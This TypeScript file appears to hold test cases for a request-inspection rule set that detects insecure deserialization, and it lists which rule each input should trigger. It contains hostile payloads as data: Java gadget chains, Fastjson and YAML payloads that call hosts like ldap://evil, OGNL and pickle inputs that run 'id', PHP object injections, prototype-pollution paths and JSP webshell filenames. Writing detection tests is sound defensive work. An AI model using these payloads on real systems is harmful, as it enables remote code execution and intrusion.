import type { ValueKind } from '../../inspectable.js';

/** A detection case: `expect` is the rule that must fire, or null when nothing may fire. */
export interface DeserializationCase {
  readonly input: string;
  readonly kind?: ValueKind;
  /** Defaults to `query.x`. */
  readonly location?: string;
  readonly expect: string | null;
}

const JAVA_SERIALIZED = 'deserialization/java-serialized';
const JAVA_GADGET = 'deserialization/java-gadget';
const JAVA_CLASS = 'deserialization/java-class';
const JAVA_CODE = 'deserialization/java-code';
const ENCODED = 'deserialization/encoded-gadget';
const PHP_OBJECT = 'deserialization/php-object';
const JSP_UPLOAD = 'deserialization/jsp-upload';
const PROTOTYPE = 'deserialization/prototype-pollution';

/** Deserialization cases shared by the unit test, the benchmark and the fuzz target. */
export const deserializationCases: readonly DeserializationCase[] = [
  // Java serialized streams: base64 at every alignment, hex, and cut from a longer encoding.
  { input: 'rO0ABXNyABFqYXZhLnV0aWwuSGFzaE1hcAUH2sHDFmDRAwACRgAKbG9hZEZhY3Rvcg==', expect: JAVA_SERIALIZED },
  { input: 'rO0ABQ', expect: JAVA_SERIALIZED },
  { input: 'KztAAU', expect: JAVA_SERIALIZED },
  { input: 'Cs7QAF', expect: JAVA_SERIALIZED },
  { input: 'data=H4sIrO0ABXNyAA', expect: JAVA_SERIALIZED },
  { input: 'aced0005737200116a6176612e7574696c2e486173684d6170', expect: JAVA_SERIALIZED },
  { input: 'ACED00057372', kind: 'body-value', expect: JAVA_SERIALIZED },
  // Gadget classes, plain and dressed up.
  { input: 'org.apache.commons.collections.functors.InvokerTransformer', expect: JAVA_GADGET },
  { input: 'ProcessBuilder.evil.clonetransformer', expect: JAVA_GADGET },
  { input: 'runtime.forclosure', kind: 'cookie-value', location: 'cookie.x', expect: JAVA_GADGET },
  { input: 'com.sun.org.apache.xalan.internal.xsltc.trax.TemplatesImpl', expect: JAVA_GADGET },
  {
    input: '{"@type":"com.sun.rowset.JdbcRowSetImpl","dataSourceName":"ldap://evil/a"}',
    kind: 'body-text',
    expect: JAVA_GADGET,
  },
  {
    input:
      'com.bea.core.repackaged.springframework.context.support.FileSystemXmlApplicationContext("http://x/a.xml")',
    expect: JAVA_GADGET,
  },
  { input: 'ysoserial', expect: JAVA_GADGET },
  {
    input: '{"@type":"org.apache.tomcat.dbcp.dbcp2.BasicDataSource","driverClassName":"$$BCEL$$$l$8b$I$A$A"}',
    kind: 'body-text',
    expect: JAVA_GADGET,
  },
  {
    input: '["ch.qos.logback.core.db.JNDIConnectionSource",{"jndiLocation":"ldap://x/a"}]',
    expect: JAVA_GADGET,
  },
  { input: 'sun.rmi.server.UnicastRef', kind: 'cookie-value', location: 'cookie.s', expect: JAVA_GADGET },
  {
    input: 'Lcom.sun.rowset.JdbcRowSetImpl;',
    kind: 'body-value',
    location: 'body.json.@type',
    expect: JAVA_GADGET,
  },
  // JDK classes that run programs or reach reflection, and weaker plain class names.
  { input: 'java.lang.Runtime', expect: JAVA_CLASS },
  { input: 'java.lang.ProcessBuilder', kind: 'header-value', location: 'header.x-class', expect: JAVA_CLASS },
  { input: 'java.Runtime', expect: JAVA_CLASS },
  // A class name alone, as a value, a cookie or a key: the type a polymorphic deserializer would build.
  { input: 'java.lang.Integer', kind: 'cookie-value', location: 'cookie.test', expect: JAVA_CLASS },
  { input: 'org.apache.commons', kind: 'body-value', location: 'body.json.x', expect: JAVA_CLASS },
  { input: 'java.evil.processbuilder', expect: JAVA_CLASS },
  { input: 'javax.script.ScriptEngineManager', expect: JAVA_CLASS },
  { input: 'java.lang.reflect.Method', expect: JAVA_CLASS },
  { input: 'java.io.FileOutputStream', expect: JAVA_CLASS },
  { input: 'java.lang.String', expect: JAVA_CLASS },
  { input: 'com.opensymphony.xwork2', expect: JAVA_CLASS },
  { input: 'org.omg.CORBA', expect: JAVA_CLASS },
  { input: 'x', kind: 'cookie-value', location: 'cookie.java.lang.Runtime', expect: JAVA_CLASS },
  { input: 'java.nio.file.Files', kind: 'body-value', location: 'body.json.cls', expect: JAVA_CLASS },
  { input: 'java.net.Socket', kind: 'header-value', location: 'header.x-type', expect: JAVA_CLASS },
  {
    input: 'org.omg.CORBA.ORB',
    kind: 'body-name',
    location: 'body.json.org.omg.CORBA.ORB#name',
    expect: JAVA_CLASS,
  },
  { input: 'com.sun.org.apache.bcel.internal.util.ClassLoader', expect: JAVA_CLASS },
  { input: 'groovy.lang.GroovyShell', kind: 'cookie-value', location: 'cookie.p', expect: JAVA_CLASS },
  {
    input:
      '<java><object class="java.lang.ProcessBuilder"><array class="java.lang.String" length="1"><void index="0"><string>id</string></void></array><void method="start"/></object></java>',
    kind: 'body-text',
    expect: JAVA_CLASS,
  },
  // Code that calls them.
  { input: "T(java.lang.Runtime).getRuntime().exec('id')", expect: JAVA_CLASS },
  { input: "Runtime.getRuntime().exec('id')", expect: JAVA_CODE },
  { input: 'new ProcessBuilder("sh","-c","id").start()', expect: JAVA_CODE },
  { input: 'Class.forName("javax.script.ScriptEngineManager")', expect: JAVA_CLASS },
  // Gadget names hidden in base64, aligned or cut mid-byte.
  { input: 'cnVudGltZQ', expect: ENCODED },
  { input: 'HJ1bnRpbWU', expect: ENCODED },
  { input: 'BydW50aW1l', expect: ENCODED },
  { input: 'aW52b2tlcnRyYW5zZm9ybWVy', expect: ENCODED },
  { input: 'cHJvY2Vzc2J1aWxkZXI', kind: 'cookie-value', location: 'cookie.x', expect: ENCODED },
  { input: '1', kind: 'body-value', location: 'body.json.Bwcm9jZXNzYnVpbGRlcg', expect: ENCODED },
  { input: 'x', location: 'body.form.Y2xvbmV0cmFuc2Zvcm1lcg', kind: 'body-value', expect: ENCODED },
  // OGNL (Struts).
  {
    input: "%{(#_memberAccess['allowStaticMethodAccess']=true).(@java.lang.Runtime@getRuntime().exec('id'))}",
    expect: 'deserialization/ognl',
  },
  {
    input: "%{(#nike='multipart/form-data').(#dm=@ognl.OgnlContext@DEFAULT_MEMBER_ACCESS)}",
    kind: 'header-value',
    expect: 'deserialization/ognl',
  },
  { input: "(#cmd='id').(#iswin=false)", expect: 'deserialization/ognl' },
  // PHP serialized objects weigh more than arrays.
  { input: 'O:8:"stdClass":1:{s:1:"a";i:2;}', expect: PHP_OBJECT },
  { input: 'O:21:"JDatabaseDriverMysqli":3:{s:2:"fc";O:17:"JSimplepieFactory":0:{}}', expect: PHP_OBJECT },
  { input: 'a:1:{i:0;O:+8:"Exploits":0:{}}', expect: PHP_OBJECT },
  {
    input: '_|O:32:"Monolog\\Handler\\SyslogUdpHandler":1:{S:6:"socket";}',
    kind: 'file-content',
    expect: PHP_OBJECT,
  },
  { input: 'a:2:{i:0;s:3:"abc";i:1;s:3:"def";}', expect: 'deserialization/php-array' },
  // .NET.
  {
    input: 'AAEAAAD/////AQAAAAAAAAAMAgAAAElTeXN0ZW0sIFZlcnNpb249NC4wLjAuMA==',
    expect: 'deserialization/dotnet-serialized',
  },
  {
    input: '{"$type":"System.Windows.Data.ObjectDataProvider, PresentationFramework","MethodName":"Start"}',
    kind: 'body-text',
    expect: 'deserialization/dotnet-gadget',
  },
  { input: 'System.Data.DataSet, System.Data', expect: 'deserialization/type-hint' },
  {
    input: 'MyCompany.Billing.Invoice, Billing',
    kind: 'body-value',
    location: 'body.json.$type',
    expect: 'deserialization/type-hint',
  },
  // Python pickles and YAML class tags.
  { input: "cos\nsystem\n(S'id'\ntR.", kind: 'body-text', expect: 'deserialization/python-pickle' },
  {
    input: 'gASVHQAAAAAAAACMBXBvc2l4lIwGc3lzdGVtlJOUjAJpZJSFlFKULg==',
    expect: 'deserialization/python-pickle',
  },
  { input: '!!python/object/apply:os.system ["id"]', kind: 'body-text', expect: 'deserialization/yaml-tag' },
  {
    input:
      '!!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL ["http://evil/"]]]]',
    kind: 'body-text',
    expect: 'deserialization/yaml-tag',
  },
  { input: '--- !ruby/object:Gem::Installer\ni: x', kind: 'body-text', expect: 'deserialization/yaml-tag' },
  // React Flight references and Ruby process calls (Node.js code itself is the ssjs analyzer's).
  { input: '{"then":"$1:__proto__:then","status":"resolved_model"}', expect: 'deserialization/react-flight' },
  { input: 'Process.spawn("id")', expect: 'deserialization/ruby-code' },
  // Property-path injection.
  {
    input: '__proto__[isAdmin]',
    kind: 'query-name',
    location: 'query.__proto__[isAdmin]#name',
    expect: 'deserialization/prototype-pollution',
  },
  {
    input: 'constructor[prototype][polluted]',
    kind: 'query-name',
    location: 'query.x#name',
    expect: 'deserialization/prototype-pollution',
  },
  { input: '{"__proto__":{"admin":true}}', kind: 'body-text', expect: 'deserialization/prototype-pollution' },
  {
    input: 'class.module.classLoader.resources.context.parent.pipeline.first.pattern',
    kind: 'body-name',
    location: 'body.form.x#name',
    expect: 'deserialization/class-loader-binding',
  },
  // JSP pages uploaded where a servlet container may run them, plain and hidden by trailing dots or spaces.
  { input: 'shell.jsp', kind: 'file-name', location: 'body.multipart.f#filename', expect: JSP_UPLOAD },
  { input: 'up/Index.JSPX', kind: 'file-name', location: 'body.multipart.f#filename', expect: JSP_UPLOAD },
  { input: 'cmd.jsp. .', kind: 'file-name', location: 'body.multipart.f#filename', expect: JSP_UPLOAD },
  { input: 'cmd. jspx', kind: 'header-value', location: 'header.x-file-name', expect: JSP_UPLOAD },
  { input: 'a.jsp  ', kind: 'header-value', location: 'header.x_filename', expect: JSP_UPLOAD },
  // Prototype paths in values: query-string, dotted and JSON-key syntax, also inside entity-encoded XML.
  { input: '__proto__.isAdmin=1', kind: 'cookie-value', location: 'cookie.prefs', expect: PROTOTYPE },
  { input: '__proto__[role]={"admin":1}', kind: 'query-name', location: 'query', expect: PROTOTYPE },
  {
    input: '{"a":{"__proto__":{"x":1}}}',
    kind: 'body-value',
    location: 'body.xml.r@data',
    expect: PROTOTYPE,
  },
  { input: 'x[constructor][prototype][y]=1', expect: PROTOTYPE },
  {
    input: '{"constructor":{"prototype":{"isAdmin":"1"}}}',
    kind: 'cookie-value',
    location: 'cookie.c',
    expect: PROTOTYPE,
  },
  { input: 'Object.prototype.polluted = 1', expect: PROTOTYPE },
  { input: 'Array.prototype["x"]=1', expect: PROTOTYPE },
  // Type hints naming JDK classes, in JSON text and as the value of a hint key.
  { input: '{"@type":"java.lang.AutoCloseable","@type":"x.y.Z"}', expect: 'deserialization/type-hint' },
  {
    input: 'java.lang.AutoCloseable',
    kind: 'body-value',
    location: 'body.json.a.@type',
    expect: 'deserialization/type-hint',
  },
  // Look-alikes that must pass: words, ids, URLs, tokens, prose, stack traces, code in prose.
  { input: 'the runtime of the movie is two hours', expect: null },
  { input: 'Process builder settings', expect: null },
  { input: 'https://www.java.com/en/download/', expect: null },
  { input: 'java.sun.com', expect: null },
  { input: 'src/java.base/share/classes/java/io/File.java', expect: null },
  { input: 'java/net/URL.html', expect: null },
  { input: 'javax.faces.ViewState', kind: 'body-name', location: 'body.form.x#name', expect: null },
  {
    input: 'Apache-HttpClient/4.5.13 (Java/11.0.15)',
    kind: 'header-value',
    location: 'header.user-agent',
    expect: null,
  },
  {
    input:
      'Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0 Safari/537.36',
    kind: 'header-value',
    location: 'header.user-agent',
    expect: null,
  },
  {
    input:
      'eyJhbGciOiJIUzI1NiIsInR5cCI6IkpXVCJ9.eyJzdWIiOiIxMjM0NTY3ODkwIiwibmFtZSI6IkpvaG4gRG9lIn0.SflKxwRJSMeKKF2QT4fwpMeJf36POk6yJV_adQssw5c',
    kind: 'header-value',
    location: 'header.authorization',
    expect: null,
  },
  {
    input: 'C2478D81582EBF964C6D6EE43D99064C',
    kind: 'cookie-value',
    location: 'cookie.JSESSIONID',
    expect: null,
  },
  {
    input: 'BAh7CEkiD3Nlc3Npb25faWQGOgZFVEkiJWJlZjk2NjM1',
    kind: 'cookie-value',
    location: 'cookie._rails_session',
    expect: null,
  },
  { input: '550e8400-e29b-41d4-a716-446655440000', expect: null },
  { input: 'john.doe@example.com', expect: null },
  {
    input:
      'Exception in thread "main" java.lang.NullPointerException\n\tat com.example.App.main(App.java:14)',
    kind: 'body-text',
    expect: null,
  },
  {
    input: 'see https://docs.oracle.com/javase/8/docs/api/java/lang/String.html',
    kind: 'body-text',
    expect: null,
  },
  { input: 'The Commons library and the apache license', expect: null },
  { input: 'order: a:2 b:3 {x}', expect: null },
  { input: 'Total: O:8 items', expect: null },
  { input: '{"@type":"Person","name":"Jane"}', kind: 'body-text', expect: null },
  { input: 'Person', kind: 'body-value', location: 'body.json.@type', expect: null },
  { input: 'a prototype of the new design', expect: null },
  { input: 'the constructor of the building', expect: null },
  { input: 'console', expect: null },
  { input: 'Queso Manchego', expect: null },
  { input: 'A%F1adir al carrito', expect: null },
  { input: 'x', kind: 'body-value', location: 'body.xml.root.rO0ABQ', expect: null },
  { input: 'jsp-tutorial.pdf', kind: 'file-name', location: 'body.multipart.f#filename', expect: null },
  { input: 'notes.jsp.txt', kind: 'file-name', location: 'body.multipart.f#filename', expect: null },
  { input: 'index.jsp', kind: 'header-value', location: 'header.x-page', expect: null },
  { input: '{"prototype_id":12,"constructor_name":"ACME"}', kind: 'body-text', expect: null },
  { input: 'the constructor prototype was built in 1920', expect: null },
  { input: '{"constructor":"ACME","prototype":"v2"}', kind: 'body-text', expect: null },
  { input: 'if (Object.prototype.hasOwnProperty.call(a, k) === true)', expect: null },
];
